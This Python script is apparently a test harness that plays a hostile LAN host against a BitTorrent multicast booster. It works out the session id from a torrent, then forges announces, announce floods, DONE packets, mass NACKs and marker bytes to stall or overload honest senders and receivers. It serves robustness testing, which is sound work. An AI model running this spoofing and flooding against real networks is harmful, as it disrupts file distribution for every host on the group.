#!/usr/bin/env python3
"""A hostile host on the booster's LAN (issue 15): forges what any host with the torrent can.

Usage: mcast-attacker.py TORRENT GROUP:PORT SECONDS [WHAT]

WHAT is a comma-separated subset of fake,flood,done,nacks,marker (default: all of them).

For SECONDS it puts on the group, from this host's own address:
  * announces and plans of a made-up sender instance every 0.5 s ("sending, every piece ahead"),
    which would hold BitTorrent back for as long as they come, if receivers let them;
  * a flood of announces from ever new made-up instances (200 a second), to push the real sender
    out of the receivers' memory;
  * DONE packets naming the real sender's instance (learned from its announces) every 0.3 s;
  * NACKs from 50 made-up receivers, naming every block of every piece, for the real sender's
    current pass, 4 times a second each (200 NACKs a second, about 2.3 Mbit/s: ten times what an
    honest group of this size sends, yet not so much that the flood itself fills the receivers'
    links): a repair of the whole image, every pass, if the sender let it;
  * the one byte 0xD2 (the data marker) 4 times a second.
It forges no data blocks: in a plain session those cannot be told from the sender's and cost
pieces (bounded, docs/multicast.md); this attack is about what must cost nothing.
Prints one line of counts at the end.
"""
import hashlib
import os
import random
import select
import signal
import socket
import struct
import sys
import time


def bdecode_info_span(data):
    """The byte range of the info dictionary, and the decoded top-level dictionary."""
    def parse(i):
        c = data[i:i + 1]
        if c == b"i":
            end = data.index(b"e", i)
            return int(data[i + 1:end]), end + 1
        if c in (b"l", b"d"):
            i += 1
            items = []
            while data[i:i + 1] != b"e":
                value, i = parse(i)
                items.append(value)
            if c == b"l":
                return items, i + 1
            return dict(zip(items[0::2], items[1::2])), i + 1
        colon = data.index(b":", i)
        length = int(data[i:colon])
        return data[colon + 1:colon + 1 + length], colon + 1 + length

    top, _ = parse(0)
    # Find the info dictionary's bytes: the value after the key "4:info" at the top level.
    i = 1
    while data[i:i + 1] != b"e":
        key, i = parse(i)
        start = i
        _, i = parse(i)
        if key == b"info":
            return data[start:i], top
    raise SystemExit("no info dictionary")


def main():
    torrent, endpoint, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    global WHAT
    WHAT = set((sys.argv[4] if len(sys.argv) > 4 else "fake,flood,done,nacks,marker").split(","))
    group, port = endpoint.rsplit(":", 1)
    port = int(port)
    raw = open(torrent, "rb").read()
    info_bytes, top = bdecode_info_span(raw)
    info = top[b"info"]
    info_hash = hashlib.sha1(info_bytes).digest()
    piece_length = info[b"piece length"]
    total = info[b"length"] if b"length" in info else sum(f[b"length"] for f in info[b"files"])
    pieces = (total + piece_length - 1) // piece_length
    session = hashlib.sha256(b"vmswarm-multicast" + info_hash).digest()[:8]

    def header(kind, flags, instance):
        return b"VMSC" + bytes([2, kind]) + struct.pack(">H", flags) + session + struct.pack(">I", instance)

    def announce(instance, pass_=0):
        return header(1, 2, instance) + struct.pack(
            ">IIQQHBBIIHH", pieces, piece_length, total, 90_000_000, pass_, 1, 0, 0, 1, 200, 200)

    def plans(instance, pass_=0):
        out = []
        bits = 8 * (1456 - 20 - 12)
        for first in range(0, pieces, bits):
            count = min(bits, pieces - first)
            bitmap = bytearray(b"\xff" * ((count + 7) // 8))
            if count % 8:
                bitmap[-1] = (0xFF << (8 - count % 8)) & 0xFF
            out.append(header(3, 0, instance) + struct.pack(">HHII", pass_, 0, first, count) + bytes(bitmap))
        return out

    def nacks(receiver, target, pass_):
        entries = [struct.pack(">IIH", piece, 0, 0) for piece in range(pieces)]
        out = []
        for start in range(0, len(entries), 140):
            chunk = entries[start:start + 140]
            out.append(header(4, 0, receiver) + struct.pack(">IHHIHH", target, pass_, 0, pieces, len(chunk), 0)
                       + b"".join(chunk))
        return out

    def done(instance, pass_):
        return header(5, 0, instance) + struct.pack(">HH", pass_, 0)

    listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listen.bind((group, port))
    listen.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                      socket.inet_aton(group) + socket.inet_aton("0.0.0.0"))
    send = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    send.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)

    fake = random.getrandbits(32)
    receivers = [random.getrandbits(32) for _ in range(50)]
    counts = dict(announces=0, flood=0, done=0, nacks=0, marker=0)
    end = time.monotonic() + seconds
    # Stopped early (the test ends it with SIGTERM): still say what was sent.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        attack(listen, send, group, port, session, fake, receivers, counts, end, announce, plans, nacks, done)
    finally:
        print("attacker: " + " ".join(f"{k}={v}" for k, v in counts.items()), flush=True)


def attack(listen, send, group, port, session, fake, receivers, counts, end, announce, plans, nacks, done):
    real, real_pass = None, 0
    heard = {}
    next_read = 0.0
    next_announce = next_flood = next_done = next_nack = 0.0

    def put(datagram, what):
        try:
            send.sendto(datagram, (group, port))
            counts[what] += 1
        except OSError:
            pass  # a full socket buffer: the next round sends again

    while time.monotonic() < end:
        now = time.monotonic()
        # Once the real sender is known, the group's data is read only now and then (the kernel
        # drops the rest for this socket): on a testbed every host shares the machine's CPUs, and
        # parsing 8,000 datagrams a second would slow the honest hosts more than the attack does.
        if real is None or now >= next_read:
            next_read = now + 0.25
            readable, _, _ = select.select([listen], [], [], 0.005)
        else:
            readable = []
            time.sleep(0.005)
        budget = 256
        while readable and budget > 0:
            budget -= 1
            datagram, _ = listen.recvfrom(2048)
            # The real sender's announces (not our own): its instance and pass.
            if len(datagram) >= 60 and datagram[:4] == b"VMSC" and datagram[5] == 1 and datagram[8:16] == session:
                instance = struct.unpack(">I", datagram[16:20])[0]
                # Our own announces come back (multicast loop): the real sender is the instance
                # heard announcing again and again, not one of the made-up ones heard once.
                heard[instance] = heard.get(instance, 0) + 1
                if instance != fake and heard[instance] >= 3:
                    real, real_pass = instance, struct.unpack(">H", datagram[44:46])[0]
            readable, _, _ = select.select([listen], [], [], 0)
        if "fake" in WHAT and now >= next_announce:
            next_announce = now + 0.5
            put(announce(fake), "announces")
            for plan in plans(fake):
                put(plan, "announces")
        if "flood" in WHAT and now >= next_flood:
            next_flood = now + 0.005
            put(announce(random.getrandbits(32)), "flood")
        if "done" in WHAT and real is not None and now >= next_done:
            next_done = now + 0.3
            put(done(real, real_pass), "done")
        if real is not None and now >= next_nack:
            next_nack = now + 0.25
            for receiver in receivers if "nacks" in WHAT else []:
                for nack in nacks(receiver, real, real_pass):
                    put(nack, "nacks")
            if "marker" in WHAT:
                put(b"\xd2", "marker")
    counts["real_sender"] = real


if __name__ == "__main__":
    main()
